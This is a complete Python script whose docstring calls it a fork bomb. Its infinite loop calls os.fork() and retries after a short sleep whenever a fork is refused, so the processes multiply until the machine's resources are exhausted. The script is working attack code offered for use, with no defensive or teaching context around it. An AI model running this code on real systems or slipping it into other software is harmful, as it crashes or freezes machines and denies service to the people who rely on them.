#!/usr/bin/env python3
"""A fork bomb that goes on when a fork is refused."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
